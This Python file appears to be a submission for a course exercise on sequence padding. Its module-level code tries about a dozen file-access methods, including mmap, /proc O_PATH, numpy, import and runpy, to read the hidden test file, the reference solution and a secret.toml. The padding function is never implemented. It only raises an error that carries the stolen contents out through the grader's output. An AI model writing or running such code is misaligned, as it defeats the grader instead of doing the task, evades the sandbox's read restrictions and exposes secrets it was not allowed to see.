import glob
import importlib.util
import linecache
import mmap
import os
import pathlib
import runpy

import numpy as np

PATHS = ["@COURSE@/solutions/02_pad/test_hidden.py", "@COURSE@/solutions/02_pad/padding.py", "@COURSE@/solutions/secret.toml"]
said = []


def mapped(path):
    descriptor = os.open(path, os.O_RDONLY)
    return bytes(mmap.mmap(descriptor, 0, prot=mmap.PROT_READ))[-300:]


def loaded(path):
    spec = importlib.util.spec_from_file_location("stolen", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return open(spec.origin).read()


WAYS = {
    "open": lambda path: open(path).read()[-300:],
    "os.open": lambda path: os.read(os.open(path, os.O_RDONLY | os.O_NOFOLLOW), 10_000)[-300:],
    "O_PATH": lambda path: open(f"/proc/self/fd/{os.open(path, os.O_PATH)}").read()[-300:],
    "mmap": mapped,
    "linecache": lambda path: linecache.getlines(path)[-1:],
    "numpy": lambda path: np.fromfile(path, np.uint8).tobytes()[-300:],
    "import": lambda path: loaded(path)[-300:],
    "run": lambda path: runpy.run_path(path).keys(),
    "listdir": lambda path: os.listdir(os.path.dirname(path)),
    "glob": lambda path: glob.glob(os.path.dirname(path) + "/*"),
    "walk": lambda path: next(os.walk(os.path.dirname(path)), None),
    "stat": lambda path: pathlib.Path(path).stat().st_size,
}
for path in PATHS:
    for name, way in WAYS.items():
        try:
            said.append(f"{name}: {way(path)!r}")
        except BaseException as error:
            said.append(f"{name}: {type(error).__name__}")


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    raise RuntimeError("; ".join(said))
